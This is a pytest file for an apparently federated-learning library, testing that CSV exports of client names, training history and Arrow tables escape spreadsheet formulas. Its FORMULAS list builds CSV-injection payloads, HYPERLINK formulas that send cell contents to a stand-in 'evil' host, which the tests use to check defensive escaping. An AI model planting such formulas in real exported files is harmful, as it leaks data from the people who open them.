"""A text from a client's data that a spreadsheet would run: in CSV files for people it stays a text."""

from __future__ import annotations

import csv

import numpy as np
import pyarrow as pa
import pytest
from shell import ok

from fedscape import Federation
from fedscape.core.history import History
from fedscape.formats import from_csv, to_csv
from fedscape.formats.cells import without_formulas

BEGINNINGS = ["=", "+", "-", "@", "\t", "\r", "\n"]
FORMULAS = [f'{begin}HYPERLINK("http://evil/?"&A1,"click")' for begin in BEGINNINGS]
PLAIN = ["ash", "'=1", "a=1", " - ", "7", ""]


def cells(path) -> list[list[str]]:
    with path.open(newline="") as file:
        return list(csv.reader(file))


def test_names_of_clients_in_the_table_of_a_training_are_no_formulas(tmp_path):
    ids = [*FORMULAS, "ash", "birch"]
    rows = 12 * len(ids)
    x = np.random.default_rng(0).normal(size=(rows, 2))
    fed = Federation({"x": x, "y": (x[:, 0] > 0).astype(int)}, np.arange(0, rows + 1, 12), ids=ids)
    fed.save(tmp_path / "fed")
    ok("train", tmp_path / "fed", "--model", "linear", "--rounds", 1, "--cohort", 0, "--out", tmp_path / "run")
    header, *lines = cells(tmp_path / "run" / "clients.csv")
    assert header == ["client", "rows", "loss", "accuracy"]
    assert sorted(line[0] for line in lines) == sorted([*(f"'{text}" for text in FORMULAS), "ash", "birch"])
    assert all(float(value) >= 0 for line in lines for value in line[1:])


def test_a_history_saved_as_csv_holds_no_formulas(tmp_path):
    history = History()
    history.extend([{"round": i, "=1+1": -1.5, "remark": text} for i, text in enumerate(FORMULAS)])
    history.save(tmp_path / "history.csv")
    header, *lines = cells(tmp_path / "history.csv")
    assert header == ["round", "'=1+1", "remark"]
    assert lines == [[str(i), "-1.5", f"'{text}"] for i, text in enumerate(FORMULAS)]


@pytest.mark.parametrize("kind", [pa.string(), pa.large_string(), pa.dictionary(pa.int32(), pa.string())], ids=str)
def test_every_kind_of_text_is_treated_and_nothing_else(kind):
    texts = [*FORMULAS, *PLAIN, None]
    numbers = np.arange(-1.0, len(texts) - 1)
    table = pa.table({"text": pa.array(texts, kind), "number": numbers, "'=": numbers, "=": numbers})
    after = without_formulas(table)
    assert after.column("text").to_pylist() == [*(f"'{text}" for text in FORMULAS), *PLAIN, None]
    assert after.column_names == ["text", "number", "'=", "'="]  # two columns of one name: none is lost
    assert all(after.column(i).equals(table.column("number")) for i in (1, 2, 3))


def test_data_that_are_converted_come_back_as_they_were(tmp_path):
    fed = Federation.from_arrays({"y": [*FORMULAS[:4], "ash"]}, clients=["=a", "=a", "b", "b", "b"])
    to_csv(fed, tmp_path / "data.csv")
    again = from_csv(tmp_path / "data.csv", client="client")
    assert again.ids.tolist() == fed.ids.tolist()
    assert again.names == fed.names
    assert again["y"].tolist() == fed["y"].tolist()
    help_ = " ".join(ok("data", "convert", "--help").replace("│", " ").split())
    assert "a spreadsheet may run" in help_
